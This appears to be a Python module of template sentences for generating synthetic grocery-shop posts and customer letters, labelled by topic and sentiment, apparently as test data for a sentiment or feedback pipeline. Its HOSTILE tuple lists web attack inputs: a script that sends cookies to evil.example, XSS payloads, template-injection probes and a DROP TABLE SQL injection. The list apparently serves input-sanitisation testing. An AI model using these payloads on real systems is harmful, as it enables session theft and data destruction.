"""Own sentences of which synthetic posts, comments and letters are made, with what each means; nobody wrote them."""

from __future__ import annotations

TOPICS = ("price", "quality", "availability", "service", "checkout", "delivery", "loyalty", "store")

SAID: dict[str, dict[str, tuple[str, ...]]] = {
    "price": {
        "positive": (
            "the {thing} was half the price I paid last month",
            "finally {thing} I can afford",
            "saved enough on {thing} for a coffee",
            "cheapest {thing} in town and it tastes great",
            "that offer on {thing} made my week",
        ),
        "negative": (
            "{thing} costs twice as much as in spring",
            "who can pay that for {thing}",
            "the shelf said one price and I was charged another for {thing}",
            "{thing} shrank and the price went up",
            "not a fair price for {thing} at all",
        ),
        "neutral": (
            "{thing} is at 2.49 this week",
            "does anyone know what {thing} costs now",
            "comparing the price of {thing} in two shops",
        ),
    },
    "quality": {
        "positive": (
            "the {thing} is so fresh it hardly made it home",
            "best {thing} I have had in years",
            "{thing} tastes like my grandmother made it",
            "I could live on their {thing}",
            "never had a bad {thing} from them",
        ),
        "negative": (
            "the {thing} was mouldy the next day",
            "{thing} tasted of cardboard",
            "threw the {thing} straight into the bin",
            "the {thing} is not what it used to be",
            "two bad batches of {thing} in a row",
        ),
        "neutral": (
            "trying the new {thing} tonight",
            "{thing} or the other brand, which one do you take",
            "the {thing} has a new label",
        ),
    },
    "availability": {
        "positive": (
            "{thing} is back on the shelf, hooray",
            "they even had {thing} late on a Sunday",
            "found {thing} here when nobody else had it",
        ),
        "negative": (
            "no {thing} again, third time this month",
            "{thing} sold out by noon as always",
            "drove twenty minutes and the shelf for {thing} was empty",
            "why advertise {thing} if you have none",
        ),
        "neutral": (
            "is {thing} in stock at the Elm Street store",
            "{thing} arrives on Thursdays they say",
            "looking for {thing}, any hint",
        ),
    },
    "service": {
        "positive": (
            "the lady at the counter helped me find {thing}, so kind",
            "refund for the {thing} in two minutes, well done",
            "staff went out of their way about the {thing}",
        ),
        "negative": (
            "asked about {thing} and got a shrug",
            "nobody answered my mail about the {thing}",
            "the man at the desk was rude about the {thing}",
            "waited ten days for a reply about {thing}",
        ),
        "neutral": (
            "whom do I ask about {thing}",
            "the help desk moved next to the {thing}",
            "called about {thing}, will hear on Monday",
        ),
    },
    "checkout": {
        "positive": (
            "in and out with {thing} in four minutes, love the new tills",
            "no queue at all today, {thing} in hand",
        ),
        "negative": (
            "one till open and a queue up to the {thing}",
            "the scanner charged me twice for {thing}",
            "self checkout froze on the {thing} again",
        ),
        "neutral": ("self checkout or the belt for {thing}", "the tills are now behind the {thing}"),
    },
    "delivery": {
        "positive": (
            "the van came early and the {thing} was still cold",
            "driver carried the {thing} up four floors, thank you",
        ),
        "negative": (
            "delivery two hours late and the {thing} had melted",
            "they left the {thing} in the rain",
            "half the order missing, no {thing}",
        ),
        "neutral": ("delivery slot on Friday for the {thing}", "can {thing} be delivered to an office"),
    },
    "loyalty": {
        "positive": (
            "my points paid for the {thing}",
            "the coupon for {thing} came just in time",
            "the app gave me free {thing}",
        ),
        "negative": (
            "the coupon for {thing} would not scan",
            "lost all my points after the update, there goes the {thing}",
            "the app crashes when I look for {thing}",
        ),
        "neutral": ("the app shows a coupon for {thing}", "do points expire before I buy {thing}"),
    },
    "store": {
        "positive": (
            "the refurbished store is bright and the {thing} corner lovely",
            "clean aisles and music, {thing} shopping can be nice",
        ),
        "negative": (
            "the floor by the {thing} was filthy",
            "car park full of broken glass, all for {thing}",
            "it smells near the {thing}",
        ),
        "neutral": ("they moved the {thing} to aisle nine", "the store on Hill Road opens at seven, with {thing}"),
    },
}

SARCASM = (
    "oh great, {said}",
    "just what I needed: {said}",
    "brilliant, {said}, thanks for nothing",
    "lovely. {said}. slow clap",
)
"""Wrapped around something negative: it stays negative."""
DENIED = ("I expected trouble, but {said}", "can't complain: {said}", "not bad at all, {said}")
"""Wrapped around something positive: it stays positive."""
MIXED = ("{first} but {second}", "{first}. still, {second}", "{first}, though {second}")
"""Two halves; the second is what the author ends on and what the post is taken to mean."""

CHATTER = {
    "positive": (
        "what a sunrise over the river this morning",
        "my sister got the job, dancing in the kitchen",
        "first tomatoes on the balcony, so proud",
        "our team won in the last minute",
        "long walk, warm socks, happy",
    ),
    "negative": (
        "missed the bus by a second, soaked now",
        "the boiler died on the coldest day",
        "sold my bike and miss it already",
        "third night without sleep, the neighbours drill again",
        "we lost in the last minute",
    ),
    "neutral": (
        "reading on the train",
        "it is Tuesday",
        "the bridge is closed until May",
        "new photo of the harbour",
        "anyone at the fair later",
    ),
}
SPECIAL = (
    "my insulin went up again, so no more sweets for me",
    "fasting until sunset, see you after prayer",
    "vote them out this autumn, all of them",
    "my boyfriend and I are out and proud at the parade",
    "since the chemo nothing tastes right",
    "our parish collects tins after mass",
    "union meeting tonight, strike or not",
    "six weeks pregnant and only crackers stay down",
    "halal counter please, my family asks each week",
    "my depression makes shopping hard",
)
"""Speaks of a special category (GDPR art. 9): never a topic, never a signal."""
FOREIGN: dict[str, dict[str, tuple[str, ...]]] = {
    "de": {
        "positive": (
            "das Brot ist wunderbar und die Verkäuferin war sehr nett",
            "endlich wieder frische Erdbeeren im Angebot",
        ),
        "negative": (
            "die Milch war schon sauer und niemand hat sich entschuldigt",
            "wieder nur eine Kasse offen und die Schlange bis zur Tür",
        ),
        "neutral": ("wann kommt die nächste Lieferung mit dem Kaffee",),
    },
    "fr": {
        "positive": ("les fraises sont délicieuses et pas trop chères",),
        "negative": ("encore une heure d'attente à la caisse, c'est honteux",),
        "neutral": ("le magasin ouvre à sept heures demain",),
    },
    "es": {
        "positive": ("el pan está muy rico y los empleados son amables",),
        "negative": ("otra vez no hay leche y nadie sabe nada",),
        "neutral": ("la tienda nueva está en la calle mayor",),
    },
    "it": {
        "positive": ("il formaggio è buonissimo e il banco molto gentile",),
        "negative": ("la frutta era marcia e non mi hanno rimborsato",),
        "neutral": ("domani provo il nuovo caffè",),
    },
    "pl": {
        "positive": ("chleb jest świeży i bardzo smaczny",),
        "negative": ("znowu nie ma mleka i nikt nic nie wie",),
        "neutral": ("sklep otwiera się jutro o siódmej",),
    },
    "sv": {
        "positive": ("brödet är så gott och personalen är jättetrevlig",),
        "negative": ("mjölken var sur och ingen ville hjälpa till",),
        "neutral": ("affären öppnar klockan sju i morgon",),
    },
    "el": {
        "positive": ("το ψωμί είναι υπέροχο σήμερα",),
        "negative": ("πάλι δεν υπάρχει γάλα στο ράφι",),
        "neutral": ("το κατάστημα ανοίγει στις επτά",),
    },
    "uk": {
        "positive": ("хліб сьогодні чудовий, дякую",),
        "negative": ("знову немає молока, ганьба",),
        "neutral": ("магазин відкривається о сьомій",),
    },
    "tr": {
        "positive": ("ekmek çok taze ve çok güzel",),
        "negative": ("yine süt yok ve kimse bilmiyor",),
        "neutral": ("mağaza yarın saat yedide açılıyor",),
    },
    "ar": {
        "positive": ("الخبز طازج ولذيذ جدا",),
        "negative": ("لا يوجد حليب مرة أخرى",),
        "neutral": ("يفتح المتجر في السابعة",),
    },
    "ja": {
        "positive": ("このパンは本当においしい",),
        "negative": ("また牛乳が売り切れです",),
        "neutral": ("お店は七時に開きます",),
    },
}
THINGS = (
    "bread",
    "coffee",
    "strawberries",
    "milk",
    "cheese",
    "yoghurt",
    "chicken",
    "salad",
    "ice cream",
    "apples",
    "pasta",
    "olive oil",
    "washing powder",
    "crisps",
    "bananas",
    "fish fingers",
    "orange juice",
    "rice",
    "tomatoes",
    "butter",
)
EMOJI = {
    "positive": ("😀", "❤️", "👍", "🎉", "😋", "🥰"),
    "negative": ("😡", "🤮", "👎", "😤", "💔", "🙄"),
    "neutral": ("🛒", "🤔", "📷", "🥕", "👨‍👩‍👧"),
}
TAGS = ("#groceries", "#shopping", "#dinner", "#offer", "#fail", "#weekend")
FRIENDS = ("nils@inbox.example", "kasia@social.example", "omar_k@web.example", "bea@letters.example")
"""Other people, invented; their handles and words must not enter."""
HOSTILE = (
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "<iframe src='javascript:alert(1)'></iframe>",
    "<svg/onload=alert(1)>",
    "<style>*{display:none}</style>",
    '<a href="javascript:alert(1)">win</a>',
    "\u202ereversed\u202c",
    "{{7*7}}${7*7}<%=7*7%>",
    "'; DROP TABLE posts; --",
    "<p style='display:none'>hidden words of praise, wonderful, perfect</p>",
)
CARE = {
    "positive": ("Thank you, my case about the {thing} was solved at once: {said}.", "I only write to say {said}."),
    "negative": (
        "I am writing because {said}. Please refund the {thing}.",
        "This is my second letter. {said}. I want an answer.",
        "{said}. I shop here every week and this is disappointing.",
    ),
    "neutral": ("Could you tell me something: {said}?", "A question for you, {said}. Regards."),
}
